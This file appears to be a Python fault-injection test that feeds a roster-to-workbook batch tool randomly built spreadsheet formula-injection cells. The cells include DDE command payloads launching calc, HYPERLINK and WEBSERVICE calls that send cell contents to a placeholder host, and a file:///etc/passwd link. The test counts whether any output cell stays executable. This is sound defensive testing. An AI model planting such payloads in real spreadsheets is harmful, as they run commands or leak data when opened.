"""Cells that a spreadsheet would execute: `python -m tests.faults.cells --count 10000`. Executable in a workbook: 0.

The cells stand in names, notes and headings, in rows that are scored and in rows that are rejected. In a workbook each
must be text, without formula or link; in CSV each must come out as it went in.
"""

from __future__ import annotations

import argparse
import csv
import io
import re
import sys
import tempfile
import zipfile
from pathlib import Path
from random import Random
from xml.etree import ElementTree

from . import forked

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "'=", '"=', "|", "%", "=-", "=@")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    'HYPERLINK("http://example.invalid/?"&A1,"x")',
    'WEBSERVICE("http://example.invalid")',
    "IMPORTXML(A1)",
    'DDE("cmd";"/C calc";"x")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "2+3+cmd|x!A0",
    "x",
)
WHOLE = ("http://example.invalid", "mailto:a@example.invalid", "internal:x!A1", "file:///etc/passwd", "{=1+1}", "{1}")
HEADINGS = ("编号", "姓名", "残疾等级", "=1+1", "@备注", "+说明")
CELLS_OF_A_ROW = 4
GRADE = 2
"""A figure in a workbook."""
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def injected(random: Random) -> str:
    """A cell that means harm."""
    if random.random() < 0.1:
        return random.choice(WHOLE)
    return random.choice(STARTS) + random.choice(BODIES) + random.choice(("", "", " ", "\n", '"'))


def rows(random: Random, count: int) -> list[list[str]]:
    """So many rows with four such cells each; one in five is rejected for its grade."""
    return [
        [
            f"T{index}",
            injected(random),
            random.choice(("1", "2", "3", "4", "九级")),
            *(injected(random) for _ in range(3)),
        ]
        for index in range(count)
    ]


def _run(made: list[list[str]], folder: Path, form: str) -> Path:
    source, out = folder / "roster.csv", folder / f"out.{form}"
    content = io.StringIO()
    writer = csv.writer(content, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(HEADINGS)
    writer.writerows(made)
    source.write_text(content.getvalue(), encoding="utf-8", newline="")
    place = ["--place", "jiaxing", "--as-of", "2021-03-01", "--benefit", "living_allowance", "--lang", "zh"]
    ran = forked.run(["batch", str(source), str(out), *place, "--summary", str(folder / f"{form}-summary.xlsx")])
    assert ran.code == 1, ran.err
    return out


def executable(book: Path) -> int:
    """How many cells and relations of a workbook a spreadsheet would do something with."""
    found = 0
    with zipfile.ZipFile(book) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            found += len(re.findall(rb"<(?:\w+:)?(?:f|hyperlink|ddeLink|oleLink|definedName)[\s>/]", content))
            found -= len(re.findall(rb'<definedName name="_xlnm[.]_FilterDatabase"', content))
            found += content.count(b'TargetMode="External"')
    return found


def texts(book: Path, sheet: int) -> list[list[str]]:
    """The texts of a sheet, read without any library for workbooks."""
    with zipfile.ZipFile(book) as archive:
        shared: list[str] = []
        if "xl/sharedStrings.xml" in archive.namelist():
            root = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = ["".join(part.text or "" for part in item.iter(f"{MAIN}t")) for item in root]
        found = []
        for row in ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{sheet}.xml")).iter(f"{MAIN}row"):
            cells = []
            for cell in row:
                value = cell.find(f"{MAIN}v")
                if cell.get("t") == "s" and value is not None:
                    cells.append(shared[int(value.text or 0)])
                elif cell.get("t") == "inlineStr":
                    cells.append("".join(part.text or "" for part in cell.iter(f"{MAIN}t")))
                else:
                    cells.append(f"#{'' if value is None else value.text}")
            found.append(cells)
        return found


def _plain(text: str) -> str:
    """A cell as XML gives it back: a carriage return is escaped by the writer, or made a line feed by every reader."""
    return text.replace("_x000D_", "\n").replace("\r", "\n")


def main(arguments: list[str] | None = None) -> int:
    """Inject and count."""
    parser = argparse.ArgumentParser(prog="python -m tests.faults.cells", description=__doc__)
    parser.add_argument("--count", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=1)
    chosen = parser.parse_args(arguments)
    forked.load()
    made = rows(Random(chosen.seed), chosen.count // CELLS_OF_A_ROW)
    harmful = lost = altered = 0
    with tempfile.TemporaryDirectory(prefix="faults-") as written:
        folder = Path(written)
        book = _run(made, folder, "xlsx")
        harmful += executable(book) + executable(folder / "xlsx-summary.xlsx")
        there = {cells[0]: cells for sheet in (1, 2) for cells in texts(book, sheet)[1:]}
        for row in made:
            cells = [_plain(cell) for cell in there.get(row[0], [])]
            lost += sum(_plain(cell) not in cells for index, cell in enumerate(row) if index != GRADE)
        out = _run(made, folder, "csv")
        came: dict[str, list[str]] = {}
        for path in (out, out.with_name("out.csv.rejects.csv")):
            with path.open(encoding="utf-8-sig", newline="") as file:
                headings, *read = csv.reader(file)
                altered += headings[: len(HEADINGS)] != list(HEADINGS)
                came |= {row[0]: row[: len(HEADINGS)] for row in read}
        altered += sum(came.get(row[0]) != row for row in made)
    print(f"{len(made) * CELLS_OF_A_ROW} injected cells in {len(made)} rows")
    print(f"{harmful:6} executable in workbooks")
    print(f"{lost:6} missing from workbooks")
    print(f"{altered:6} rows altered in CSV")
    return 1 if harmful or lost or altered else 0


if __name__ == "__main__":
    sys.exit(main())
